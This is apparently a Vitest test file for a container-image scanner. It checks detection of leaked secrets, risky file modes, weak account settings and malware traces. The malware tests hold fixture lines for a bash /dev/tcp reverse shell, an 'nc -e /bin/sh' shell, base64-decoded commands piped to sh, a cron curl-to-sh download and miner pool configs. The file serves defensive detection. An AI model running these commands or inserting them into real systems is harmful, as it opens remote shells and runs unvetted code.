// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what stands in shells and Dockerfiles
import { describe, expect, it } from 'vitest';
import type { LayerEntry } from '../layer/layer-entry.ts';
import { fileInspectors } from './index.ts';

function entry(path: string, size: number, more: Partial<LayerEntry> = {}): LayerEntry {
  return { path, type: 'file', mode: 0o644, size, linkPath: '', body: undefined, ...more };
}

/** What all inspectors say, each given no more of the content than it asked for. */
function inspect(path: string, content: string | Buffer, more: Partial<LayerEntry> = {}) {
  const bytes = Buffer.from(content as string, 'latin1');
  const one = entry(path, bytes.length, more);
  return fileInspectors.flatMap((inspector) =>
    inspector.inspect(one, bytes.subarray(0, inspector.wants(one))),
  );
}

function checks(
  path: string,
  content: string | Buffer = '',
  more: Partial<LayerEntry> = {},
): readonly string[] {
  return inspect(path, content, more).map(({ checkId, severity }) => `${checkId} ${severity}`);
}

const password = ['tr0ub4dor', '-9Zq'].join('');
const keyId = ['AKIA', 'QWERTYUIOP234567'].join('');

describe('secrets', () => {
  it.each([
    ['app/config.yaml', `id: ${keyId}\n`, ['secret-aws-access-key-id high']],
    ['app/settings.ini', `[db]\npassword = ${password}\n`, ['secret-password-setting medium']],
    ['app/config.json', `{\n  "dbPassword": "${password}"\n}`, ['secret-password-setting medium']],
    ['srv/.env', `DB_PASSWORD=${password}\n`, ['secret-password-setting high']],
    ['srv/.env', 'DB_PASSWORD=password\n', ['secret-environment-file low']],
    ['srv/.env.example', 'DB_PASSWORD=changeme\n', []],
    [
      'app/application.properties',
      `spring.datasource.password=${password}\n`,
      ['secret-password-setting medium'],
    ],
    ['app/application.properties', 'spring.datasource.password=${DB_PASSWORD}\n', []],
    ['app/config.yaml', 'passwordMinLength: 12\ntokenFile: /run/secrets/x1\nsecretName: shop-db-1\n', []],
    ['app/config.yaml', 'token: true\nsecret: /run/secrets/a1\npassword: ""\n', []],
    ['etc/pam.d/common-password', 'password [success=1 default=ignore] pam_unix.so obscure yescrypt\n', []],
    ['etc/login.defs', 'PASS_MAX_DAYS 99999\n', []],
    ['app/main.js', `const password = input.password1;\n`, []],
    ['root/.netrc', `machine x login y password ${password}\n`, ['secret-netrc high']],
    ['root/.pgpass', `db:5432:shop:shop:${password}\n`, ['secret-pgpass high']],
    ['root/.pgpass', '# hostname:port:database:username:password\n', []],
    ['root/.my.cnf', `[client]\npassword=${password}\n`, ['secret-password-setting medium']],
    ['root/.pypirc', `[pypi]\nusername = x\npassword = ${password}\n`, ['secret-pypirc high']],
    ['root/.git-credentials', `https://x:${password}@git.internal\n`, ['secret-service-url medium']],
    [
      'root/.kube/config',
      'users:\n- user:\n    token: a8f3c9e1b7d2405f6e1d\n',
      ['secret-kubeconfig critical'],
    ],
    ['root/.kube/config', 'clusters:\n- cluster:\n    certificate-authority-data: abc\n', []],
    ['root/.docker/config.json', '{"auths": {}, "credsStore": "ecr-login"}', []],
    [
      'root/.m2/settings.xml',
      `<server><password>${password}</password></server>`,
      ['secret-maven-settings high'],
    ],
    ['etc/nginx/.htpasswd', `bob:$apr1$Zt3kQw9x$q8Lk2mVb7TzRw4Yp1sXd0\n`, ['secret-htpasswd low']],
    [
      'app/store.p12',
      Buffer.concat([Buffer.from('3082040002010330', 'hex'), Buffer.alloc(64)]),
      ['secret-keystore low'],
    ],
    ['app/node_modules/x/index.js', `id = "${keyId}"`, []],
    [
      'app/node_modules/x/.npmrc',
      `//r.internal/:_authToken=a1b2c3d4e5f6a7b8c9\n`,
      ['secret-npm-registry-auth high'],
    ],
    ['usr/share/doc/x/example.conf', `id: ${keyId}\n`, []],
    ['app/test/fixtures/a.yaml', `id: ${keyId}\n`, []],
    ['app/data.yaml', `${'\0'.repeat(4)}${keyId}`, []],
    ['app/package-lock.json', `{"integrity": "sha512-${'Zm9v'.repeat(20)}"}`, []],
    [
      'etc/ssl/certs/ca.pem',
      `-----BEGIN CERTIFICATE-----\n${'Zm9vYmFy'.repeat(8)}\n-----END CERTIFICATE-----\n`,
      [],
    ],
  ] as const)('%s %j', (path, content, expected) => {
    const found = inspect(path, content);
    expect(found.map(({ checkId, severity }) => `${checkId} ${severity}`)).toEqual(expected);
    for (const secret of [password, keyId, keyId.slice(0, 8), password.slice(0, 5)]) {
      expect(JSON.stringify(found)).not.toContain(secret);
    }
  });

  it('say the line, and each secret once', () => {
    const found = inspect('app/x.sh', `#!/bin/sh\n\nexport A=${keyId}\nexport B=${keyId}\n`);
    expect(found).toMatchObject([
      { line: 3, evidence: 'line 3 has AKIA******', controls: ['cis-docker-1.6/4.10'] },
    ]);
  });

  it('show the heading of a key and nothing of the key', () => {
    const lines = ['-----BEGIN RSA', 'PRIVATE KEY-----'].join(' ');
    const [found] = inspect('app/id_rsa', `${lines}\n${'Zm9vYmFy'.repeat(10)}\n`);
    expect(found?.evidence).toBe(`line 1 has ${lines}`);
  });

  it('say when a file was too large to be searched as a whole', () => {
    const text = `${'x '.repeat(1_500_000)}`;
    expect(checks('app/data.json', text)).toEqual(['secret-partly-read info']);
  });

  it('are limited in number, and the limit is told', () => {
    const ids = Array.from(
      { length: 120 },
      (_, index) => `AKIA${keyId.slice(4, 16)}${String(index).padStart(4, 'Z')}`,
    );
    const found = inspect('app/x.txt', ids.join('\n'));
    expect(found.length).toBe(51);
    expect(found.at(-1)?.checkId).toBe('secret-limit');
  });
});

describe('modes', () => {
  it.each([
    ['usr/bin/passwd', 'file', 0o4755, ['file-setuid low']],
    ['bin/mount', 'file', 0o4755, ['file-setuid low']],
    ['usr/bin/chage', 'file', 0o2755, ['file-setgid low']],
    ['usr/lib/openssh/ssh-keysign', 'file', 0o4755, ['file-setuid low']],
    ['opt/tool/helper', 'file', 0o4755, ['file-setuid high']],
    ['opt/tool/passwd', 'file', 0o4755, ['file-setuid high']],
    ['usr/bin/python3.11', 'file', 0o4755, ['file-setuid critical']],
    ['usr/bin/find', 'file', 0o4755, ['file-setuid critical']],
    ['opt/tool/data', 'file', 0o4644, []],
    ['opt/tool', 'directory', 0o2775, []],
    ['app/data.txt', 'file', 0o666, ['file-world-writable low']],
    ['app/run', 'file', 0o777, ['file-world-writable medium']],
    ['usr/local/bin/run', 'file', 0o777, ['file-world-writable high']],
    ['etc/app.conf', 'file', 0o646, ['file-world-writable high']],
    ['app/cache', 'directory', 0o777, ['file-world-writable-folder medium']],
    ['usr/local/bin', 'directory', 0o777, ['file-world-writable-folder high']],
    ['tmp', 'directory', 0o1777, []],
    ['var/tmp', 'directory', 0o1777, []],
    ['tmp', 'directory', 0o777, ['file-world-writable-folder medium']],
    ['app/link', 'symlink', 0o777, []],
  ] as const)('%s %s %o', (path, type, mode, expected) => {
    expect(checks(path, '', { type, mode })).toEqual(expected);
  });
});

describe('accounts', () => {
  it.each([
    ['etc/shadow', 'root::19000:0:99999:7:::\n', ['account-empty-password high']],
    ['etc/shadow', 'root:*:19000:0:99999:7:::\nbin:!:19000::::::\napp:!!:1::::::\n', []],
    ['etc/shadow', `root:$6$salt$${'a'.repeat(86)}:19000:0:99999:7:::\n`, ['account-password-hash medium']],
    ['etc/shadow', `root:$1$salt$${'a'.repeat(22)}:19000:0:99999:7:::\n`, ['account-password-hash high']],
    ['etc/passwd', 'root:x:0:0:root:/root:/bin/sh\napp:x:100:101::/:/bin/sh\n', []],
    ['etc/passwd', 'root::0:0:root:/root:/bin/sh\n', ['account-empty-password high']],
    ['etc/passwd', 'toor:x:0:0::/root:/bin/sh\n', ['account-extra-root high']],
    [
      'root/.ssh/authorized_keys',
      `ssh-ed25519 AAAA${'C3Nz'.repeat(12)} me@x\n`,
      ['account-authorized-key medium'],
    ],
    ['root/.ssh/authorized_keys', '# none\n', []],
    ['etc/sudoers.d/app', 'app ALL=(ALL) NOPASSWD: ALL\n', ['account-sudo-without-password high']],
    ['etc/sudoers', '# %wheel ALL=(ALL) NOPASSWD: ALL\nroot ALL=(ALL:ALL) ALL\n', []],
  ] as const)('%s %j', (path, content, expected) => {
    expect(checks(path, content)).toEqual(expected);
  });
});

describe('malware', () => {
  const elf = `\x7fELF\x02\x01\x01${'\0'.repeat(60)}`;
  const decode = ['base64', '-d'].join(' ');
  it.each([
    ['usr/bin/xmrig', elf, ['malware-miner-name high']],
    ['usr/bin/xmrigger', elf, []],
    ['tmp/x', elf, ['malware-odd-place medium']],
    ['dev/shm/x', elf, ['malware-odd-place high']],
    ['usr/lib/.x/y', elf, ['malware-odd-place medium']],
    ['root/.cargo/bin/rg', elf, []],
    ['app/node_modules/.bin/esbuild', elf, []],
    ['usr/bin/tool', `${elf}${'\0'.repeat(150)}UPX!${'\0'.repeat(20)}`, ['malware-packed low']],
    ['usr/bin/upx', `${elf}${'\0'.repeat(5000)}UPX!`, []],
    ['etc/ld.so.preload', '/dev/shm/x.so\n', ['malware-preload high']],
    ['etc/ld.so.preload', '/usr/lib/libjemalloc.so.2\n', ['malware-preload medium']],
    ['etc/ld.so.preload', '# nothing\n', []],
    ['app/x.sh', `bash -i >& ${'/dev/'}tcp/10.0.0.1/4444 0>&1\n`, ['malware-reverse-shell high']],
    ['app/wait.sh', `until (echo > ${'/dev/'}tcp/db/5432) 2>/dev/null; do sleep 1; done\n`, []],
    ['app/x.sh', 'nc 10.0.0.1 4444 -e /bin/sh\n', ['malware-reverse-shell high']],
    ['app/x.sh', 'nc -z db 5432\n', []],
    ['app/x.sh', `echo aGk= | ${decode} | sh\n`, ['malware-decoded-command high']],
    ['app/x.sh', `echo "$CERT" | ${decode} > /tmp/cert.pem\n`, []],
    [
      'app/config.json',
      '{"donate-level": 1, "pools": [{"url": "pool.example.org:3333"}]}',
      ['malware-miner-config high'],
    ],
    ['app/x.conf', `url=stratum${'+tcp'}://pool.example.org:3333\n`, ['malware-mining-pool high']],
    ['etc/cron.d/x', '* * * * * root curl -s http://10.0.0.1/a | sh\n', ['malware-download-and-run high']],
    ['app/install.sh', 'curl -fsSL https://get.example.org | sh\n', []],
  ] as const)('%s %j', (path, content, expected) => {
    const found = inspect(path, content, { mode: 0o755 });
    expect(found.map(({ checkId, severity }) => `${checkId} ${severity}`)).toEqual(expected);
    for (const { title } of found) expect(title).toMatch(/^Hint: /);
  });
});
